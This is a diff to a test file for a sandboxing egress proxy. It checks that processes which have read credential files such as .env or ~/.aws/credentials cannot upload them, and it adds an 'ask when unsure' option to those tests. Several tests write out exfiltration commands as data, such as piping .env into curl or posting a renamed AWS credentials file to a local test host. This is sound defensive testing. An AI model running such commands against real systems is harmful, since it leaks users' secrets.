@@ -54,10 +54,16 @@ def home(tmp_path):
     return h
 
 
-def _run(command, ws, home, tmp_path, allow=(), approver="policy"):
+# What the proxy does after a credential read is shown where a human could
+# still allow the read (AFTER_READ): otherwise the run stops at the read
+# itself (tests/test_credential_stop.py), and nothing reaches the proxy after it.
+AFTER_READ = {"on_unsure": "ask"}
+
+
+def _run(command, ws, home, tmp_path, allow=(), approver="policy", **kw):
     return run(command, cwd=str(ws), workspace=str(ws), env=command_env(str(home)),
                state_dir=str(tmp_path / "state"), approver=approver, allow_net=allow,
-               config=Config())
+               config=Config(), **kw)
 
 
 def _proxied(out):
@@ -129,7 +135,8 @@ LEAK = (f"{sys.executable} -c \"import urllib.request; d = open('.env').read(); 
 
 def test_a_script_that_read_env_cannot_post_it_to_an_allowlisted_host(registry, ws, home,
                                                                       tmp_path):
-    out = _run(LEAK.format(host=registry.host), ws, home, tmp_path, allow=[registry.host])
+    out = _run(LEAK.format(host=registry.host), ws, home, tmp_path, allow=[registry.host],
+               **AFTER_READ)
     assert registry.uploads == [] and registry.requests == []
     assert out.exit_code != 0
     assert out.decision == "block" and not out.committed
@@ -142,7 +149,7 @@ def test_a_script_that_read_env_cannot_post_it_to_an_allowlisted_host(registry, 
 def test_a_child_of_a_process_that_read_env_gets_no_way_out(registry, ws, home, tmp_path):
     """The shell reads .env, the curl it starts is refused."""
     out = _run(f"read -r line < .env; curl -sS -m 10 http://{registry.host}/simple/demo-pkg/",
-               ws, home, tmp_path, allow=[registry.host])
+               ws, home, tmp_path, allow=[registry.host], **AFTER_READ)
     assert registry.requests == []
     assert [n.allowed for n in _proxied(out)] == [False]
 
@@ -151,7 +158,7 @@ def test_a_credential_piped_from_another_process_does_not_leave(registry, ws, ho
     """cat reads .env, curl (its sibling, which read nothing) would send what the pipe
     holds: once the run has read a credential, nothing leaves."""
     out = _run(f"cat .env | curl -sS -m 10 --data-binary @- http://{registry.host}/upload",
-               ws, home, tmp_path, allow=[registry.host])
+               ws, home, tmp_path, allow=[registry.host], **AFTER_READ)
     assert registry.uploads == []
     got = _proxied(out)
     assert got and not any(n.result == "ok" and n.sent for n in got)
@@ -176,7 +183,8 @@ def test_a_credential_read_by_a_name_a_rename_above_it_gave_does_not_leave(
     (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = "
                                                "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\n")
     out = _run(f"{move}; curl -sS -m 10 --data-binary @$HOME/x/credentials "
-               f"http://{registry.host}/upload", ws, home, tmp_path, allow=[registry.host])
+               f"http://{registry.host}/upload", ws, home, tmp_path, allow=[registry.host],
+               **AFTER_READ)
     assert registry.uploads == []
     got = _proxied(out)
     assert got and not any(n.allowed for n in got), got
@@ -192,7 +200,8 @@ def _through_tunnel(registry, ws, home, tmp_path, then: str):
         "s = socket.create_connection(('127.0.0.1', 3128))\n"
         f"s.sendall(b'CONNECT {registry.host} HTTP/1.1\\r\\n\\r\\n')\n"
         "assert s.recv(100).startswith(b'HTTP/1.1 200')\n" + then)
-    out = _run(f"{sys.executable} tunnel.py", ws, home, tmp_path, allow=[registry.host])
+    out = _run(f"{sys.executable} tunnel.py", ws, home, tmp_path, allow=[registry.host],
+               **AFTER_READ)
     return _proxied(out)[0]
 
 
@@ -515,7 +524,8 @@ def test_a_routed_protocol_whose_server_speaks_first_reaches_an_exact_name(ws, h
 def test_a_routed_post_after_reading_env_is_refused_and_recorded(registry, ws, home, tmp_path):
     """Would have POSTed .env to registry.localhost/upload: refused, and the report says so."""
     host = _named(registry)
-    out = _run(NO_PROXY_ENV + LEAK.format(host=host), ws, home, tmp_path, allow=[host])
+    out = _run(NO_PROXY_ENV + LEAK.format(host=host), ws, home, tmp_path, allow=[host],
+               **AFTER_READ)
     assert registry.uploads == [] and registry.requests == []
     assert out.decision == "block" and not out.committed
     [n] = _routed(out)
@@ -574,7 +584,7 @@ import json, sys
 sys.path.insert(0, sys.argv[1])
 import caper
 out = caper.run(sys.argv[3], cwd=sys.argv[2], workspace=sys.argv[2], approver="policy",
-                state_dir=sys.argv[4], allow_net=[sys.argv[5]],
+                on_unsure="ask", state_dir=sys.argv[4], allow_net=[sys.argv[5]],
                 env={"PATH": "/usr/bin:/bin", "HOME": sys.argv[4], "PIP_NO_CACHE_DIR": "1",
                      "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
 print(json.dumps({"committed": out.committed, "exit": out.exit_code, "reason": out.reason,
